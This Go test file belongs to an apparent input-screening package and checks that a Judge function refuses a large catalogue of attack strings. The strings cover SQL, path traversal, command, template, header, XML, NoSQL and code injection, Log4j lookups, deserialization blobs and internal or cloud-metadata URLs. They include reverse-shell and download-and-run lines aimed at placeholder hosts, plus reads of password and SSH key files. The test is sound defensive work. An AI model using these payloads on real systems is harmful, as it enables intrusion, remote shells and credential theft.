package signs_test

import (
	"testing"

	"github.com/fumehood/fumehood/internal/signs"
)

// attacks are values with the structure of an attack, each named by what it does. They are
// written for this test.
var attacks = map[signs.Class]map[string][]string{
	signs.SQL: {
		"always true":            {"x' or 1=1 -- ", `x" or "a"="a`, "x') or ('b'='b", "7 or 7=7", "7) or (7=7", "x' or 2 > 1 #", "x%' or 'q' like 'q", "x'||1=1--", "x' or true--", "' or ''='"},
		"always false":           {"x' and 1=2 --", "7 and 1=2"},
		"comment ends it":        {"admin' --", "admin'#", "admin')--", "admin';--", "admin'/*"},
		"union":                  {"7 union select null, null", "x' UNION ALL SELECT login, password FROM users -- -", "-1 union(select 1,2)", "7/*!50000union*//*!50000select*/1,2"},
		"blanks of other kinds":  {"x'/**/or/**/1=1--", "7\tunion\nselect\v1", "x'or(1)=(1)--", "x'+or+1=1--", "7\u00a0or\u00a07=7"},
		"second statement":       {"7; drop table users", "x'; insert into users values (1)--", "7;exec xp_cmdshell 'dir'", "x';shutdown--", "7; update t set a=1"},
		"waits":                  {"7 and sleep(5)", "x' or pg_sleep(5)--", "x'; waitfor delay '0:0:9'--", "if(1=1,benchmark(9999999,sha1(1)),0)", "7 or 3=like('A',upper(hex(randomblob(99999999))))"},
		"error tells":            {"7 and extractvalue(1,concat(0x7e,version()))", "x' and updatexml(1,concat(1,user()),1)--", "7 or 1=cast((select login from users) as int)"},
		"asks bit by bit":        {"7 and ascii(substr((select login from users),1,1))>99", "(case when (1=1) then name else id end)", "x' and (select count(*) from users)>0--"},
		"counts columns":         {"7 order by 9--", "x' order by 3#", "x' group by 1 having 1=1--"},
		"files":                  {"x' union select 1 into outfile '/var/www/x.php'", "7 and load_file('/etc/passwd')", "x' into dumpfile '/tmp/x'--"},
		"system tables":          {"7 or (select sql from sqlite_master)", "x' and @@version>5--", "7 and exists(select * from information_schema.tables)"},
		"typographic quotes":     {"x’ or 1=1 --"},
		"scientific notation":    {"1.e(1) or 1=1"},
		"nothing but constants":  {"7=7", "12!=3", "4<>4", "not 1=2", "9 or 9", "0x31=0x31", "5||5"},
		"nothing but brackets":   {"') or ('", ") or (", "'))", "\");", "'\"`"},
		"the database's own":     {"@@hostname", "information_schema.columns", "pg_catalog.pg_tables", "/*!50000 or*/", "mysql.user"},
		"whole statements":       {"select * from users", "delete from users where 1=1", "insert into users values (1,2)", "drop table users", "update users set pass='x'"},
		"one condition":          {"ascii('a')=97", "substr(user(),1,1)='a'", "1::int", "'a'::text", "limit 3,1", ";sleep(5)", "+union+select+1", "*/or/**/1=1"},
		"the app's quote closes": {"x' or 'a'='a", "'='", "'-'", `"^"`},
	},
	signs.Path: {
		"up":                  {"../../x", `..\..\x`, "a/../../b.db", "../../../../../etc/hosts", `..\..\boot.ini`},
		"up, encoded":         {"..%2f..%2fx", "%2e%2e/%2e%2e/x", "%252e%252e%252fx", "..%5c..%5cx", "%%32%65%%32%65/x"},
		"up, over-long":       {"%c0%ae%c0%ae/%c0%ae%c0%ae/x", "..%c0%af..%c0%afx", "\xc0\xae\xc0\xae/x"},
		"up, other scripts":   {"．．/．．/x", "..∕..∕x", "%uff0e%uff0e/x"},
		"up, doubled":         {"....//....//x", `....\/....\/x`, "..;/..;/x"},
		"up, once":            {"../settings.py", "../db.php", "..;/x", "..././x", "..//x", "..2f..2fx", "/.."},
		"cut":                 {"../x.png%00", "/a/b.txt\x00.png"},
		"files of the system": {"/etc/passwd", "//etc//shadow", "/srv/www/a", "/home/a/.docker/config.json", "/backup/a.sql", "/a/id_rsa", `C:\Windows\win.ini`, "/proc/self/environ", "/home/x/.ssh/id_rsa", "file:///etc/passwd", "/.git/config"},
		"wrappers":            {"php://filter/convert.base64-encode/resource=index.php", "phar://x.jpg/y", "expect://id", "zip://a.zip#b"},
	},
	signs.Command: {
		"separator":        {";id", "x;uname -a", "|whoami", "127.0.0.1&&cat /etc/passwd", "x || ping -c 9 127.0.0.1", "& dir C:\\", "a);ls|", "x';ls -la;'"},
		"line break":       {"127.0.0.1\nwhoami", "%0als", "x%0d%0awget http://a.example/x"},
		"substitution":     {"$(id)", "`whoami`", "x$(cat /etc/passwd)", "a`ls`b", "$((7*7))"},
		"hidden name":      {"c'a't /etc/passwd", "w\\h\\oami", ";who$@ami", "/???/c?t", "/bin/l[s]", "wh``oami"},
		"hidden blanks":    {"cat${IFS}/etc/passwd", ";ls$IFS-la", "{cat,/etc/passwd}", "cat</etc/passwd"},
		"cut variables":    {"${PATH:0:1}", "${x//a/b}", "a=ls;$a"},
		"download and run": {"; curl http://a.example/x | sh", "wget -qO- http://a.example/x"},
		"one line":         {"sleep 10", "ping 192.0.2.1", "nslookup a.example", "cat db.py", "cd ..", "find / -name x", "ls | grep x", "id > /tmp/x", "id 2>&1", "whoami;", "ps aux", "sudo id", "openssl s_client -connect a.example:99", "reg query HKLM", "</etc/passwd", "open('/etc/passwd').read()"},
		"loops":            {"while true; do id; done", "for i in 1 2; do ls; done", "if true; then id; fi"},
		"variables":        {"${IFS}", "$SHELL", "%COMSPEC%", "$env:Path", "${#PATH}", "${!x}", "${x:-id}", "${x/y/z}", "%SystemRoot%\\x.exe"},
		"behind a host":    {"192.0.2.1 & id", "a.png; id", "192.0.2.1`id`", "192.0.2.1|id", "x.png&sleep 5&"},
		"unknown programs": {";tool --version", "|tool -x", ";tool /etc/passwd"},
		"braces":           {";{cat,/etc/passwd}", "{wget,http://a.example}"},
		"calls home":       {"bash -i >& /dev/tcp/192.0.2.1/99 0>&1", "nc -e /bin/sh 192.0.2.1 99"},
		"Shellshock":       {"() { :;}; /bin/id"},
		"PowerShell":       {"IEX(New-Object Net.WebClient)", "Get-WmiObject Win32_Process", "Add-Type -AssemblyName x", "[Convert]::FromBase64String('x')"},
		"Windows":          {"& ipconfig /all", "powershell -enc AAAA", "| net user", `IF "%A%"=="" echo x`, "FOR /F %x IN (a) DO x"},
	},
	signs.Template: {
		"computes":     {"{{7*7}}", "${9*9}", "#{3*3}", "<%= 7*7 %>", "@(2+3)", "{{7*'7'}}", "*{6*6}"},
		"Jinja":        {"{{ ''.__class__.__mro__ }}", "{{config.items()}}", "{{request|attr('x')}}", "{% for x in [].__class__.__base__.__subclasses__() %}", "{{cycler.__init__.__globals__.os.popen('id').read()}}"},
		"Java":         {"${T(java.lang.Runtime).getRuntime().exec('id')}", "${''.getClass().forName('x')}", "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x('id')}", "#set($x=$y.getClass())"},
		"one letter":   {"${x}", "{{x}}", "#{x}", "{{ y }}"},
		"expressions":  {"{{'a'}}", "{{x()}}", "{{a['b']}}", "${x.y()}", "{{request.environ}}", "{{ user.password }}", "{{'a'|upper}}", "${x?api}", "${.version}", "@{1+1}", "%{1+1}", "{!! 7*7 !!}"},
		"statements":   {"{% set x = 'a' %}{{x}}", "{% include '/etc/passwd' %}", "{% debug %}", "{% if 1==1 %}x{% endif %}", "{% csrf_token %}", "{{x.y}}, {{a.b}}{% endfor %}"},
		"Velocity":     {"#set($x=1)", "#evaluate($x)", "$class.inspect", "$x.getClass()"},
		"Razor":        {"@System.DateTime.Now", "@Html.Raw('x')", "@if(1==1){x}"},
		"Freemarker":   {"<#assign x = 1>", "<#list 1..3 as x>${x}</#list>", "[#assign x='y'?new()]"},
		"Smarty":       {"{$smarty.version}", "{include file='/etc/passwd'}", "{if 1}x{/if}", "{7*7}", "{'id'|system}"},
		"Go":           {"{{.}}", "{{printf \"%s\" .}}", "{{define \"x\"}}y{{end}}"},
		"Handlebars":   {"{{> x}}", "{{#with \"s\" as |t|}}{{/with}}", "{{lookup this 'x'}}"},
		"PHP":          {"{php}echo 1;{/php}", "{system('id')}", "{{['id']|filter('system')}}"},
		"Ruby, Elixir": {"<%= `id` %>", "<%= File.open('/etc/passwd').read %>", "#{ %x|id| }"},
		"JavaScript":   {"{{constructor.constructor('x')()}}"},
	},
	signs.Header: {
		"another field":    {"x\r\nSet-Cookie: a=b", "x%0d%0aLocation: http://a.example", "x\nContent-Length: 0", "x嘊嘍Set-Cookie: a"},
		"another place":    {"x\r\nLocation: //a.example", "x\nLocation: /b", "x\r\nTo: c@d.example"},
		"another answer":   {"x\r\n\r\nHTTP/1.1 200 OK"},
		"another request":  {"x\r\nGET / HTTP/1.1"},
		"another receiver": {"a@b.example\nBcc: c@d.example"},
	},
	signs.XML: {
		"entity":     {`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`, `<!ENTITY % a "b">`},
		"outside":    {`<!DOCTYPE a SYSTEM "http://a.example/b.dtd"><a/>`, `<xi:include href="x"/>`},
		"stylesheet": {`<xsl:value-of select="document('http://a.example')"/>`},
	},
	signs.NoSQL: {
		"operators":  {`{"$ne": null}`, `{"$gt":""}`, "[$ne]=1", `{"a": {"$regex": "^a"}}`, "', $where: '1"},
		"JavaScript": {"';return true;//", "' || this.a == 'b", "';sleep(9);'"},
		"LDAP":       {"*)(uid=*", "x)(|(cn=*", "x)(&)"},
		"XPath":      {"x'] | //user | a['", "x' or count(/a)=1 or '"},
	},
	signs.Code: {
		"PHP":        {"<?php phpinfo();?>", "system('id')", "';phpinfo();//", "'.system('id').'", "${@phpinfo()}"},
		"Python":     {"__import__('os').system('id')", "exec('x')"},
		"JavaScript": {"require('child_process').exec('id')", "__proto__[a]"},
		"Perl":       {"@{[system 'id']}"},
		"includes":   {`<!--#exec cmd="id"-->`, `<esi:include src="x"/>`},
		"Log4j":      {"${jndi:ldap://a.example/x}", "${${lower:j}ndi:ldap://a.example}", "${${::-j}${::-n}di:x}"},
		"objects":    {`O:8:"stdClass":0:{}`, "rO0ABXNyAA", "\x80\x04\x95\x00\x00.", "cos\nsystem\n(S'id'\ntR.", "!!python/object/apply:os.system", `_$$ND_FUNC$$_function(){}`},
	},
}

func TestAttacksAreRefused(t *testing.T) {
	t.Parallel()
	for class, kinds := range attacks {
		for kind, values := range kinds {
			for _, value := range values {
				score := signs.Judge(value)
				if _, points, why := score.Top(); points < signs.Refuse {
					t.Errorf("%v, %s: %q has %d points (%s)", class, kind, value, points, why)
				} else if why == "" {
					t.Errorf("%v, %s: %q is refused without a reason", class, kind, value)
				}
			}
		}
	}
}

// TestInternalURLs: the neighbours are a weak sign, a host in disguise or one that gives out keys is more.
func TestInternalURLs(t *testing.T) {
	t.Parallel()
	for want, values := range map[int][]string{
		signs.Refuse: {
			"http://169.254.169.254/latest/meta-data/", "http://2130706433/", "http://0x7f.1/", "https://metadata.google.internal/", "http://[::ffff:169.254.169.254]/",
			"gopher://a.example/_x", "dict://10.0.0.1:11211/x", "http://0251.0376.0251.0376/", "http://127.1", "http://[::ffff:127.0.0.1]:80", "http://[::127.0.0.1]/",
			"http://[64:ff9b::a9fe:a9fe]/", "http://[2002:7f00:1::]/", "http://[fd00:ec2::254]/latest", "http://100.100.100.200/x", "http://169.254.170.2/v2", "http://0/",
			"http://169.254.169.254.nip.io/", "http://a-169-254-169-254.nip.io/", "http://127。0。0。1/", "http://a.example\\@10.0.0.1/", "http://a.example#@b.example/",
			"http://0x41414141a9fea9fe/", "netdoc:///etc/hosts",
		},
		signs.Weak: {
			"http://127.0.0.1/", "http://localhost:8080", "http://[::1]/", "http://a@10.0.0.1/", "http://127.0.0.1.nip.io/", "http://192.168.0.1/admin", "http://[fe80::1]/",
			"http://nas.local/", "http://169.254.169.254/ is where AWS keeps them", "sftp://a.example/x", "ldap://a.example/dc=x",
		},
		0: {"https://example.org/", "http://8.8.8.8/", "https://localhostess.example/", "at 10:0", "http://[2001:db8::1]/x", "3:4", "https://a.example/#@anna", "https://a.example/@anna"},
	} {
		for _, value := range values {
			if score := signs.Judge(value); score.Points(signs.Request) != want {
				t.Errorf("%q has %d points", value, score.Points(signs.Request))
			}
		}
	}
}

func TestNames(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]int{
		"user[$ne]": signs.Refuse, "filter.$where": signs.Refuse, "$gt": signs.Refuse, "a[$regex][]": signs.Refuse, "__proto__[x]": signs.Refuse,
		"a.constructor.prototype.b": signs.Refuse, "user[name]": 0, "price$": 0, "$total": 0, "a.$type": 0, "items.0.title": 0, "US$": 0, "$nextPage": 0,
	} {
		score := signs.JudgeName(name)
		if _, points, _ := score.Top(); points != want {
			t.Errorf("%q has %d points of %d", name, points, want)
		}
	}
}
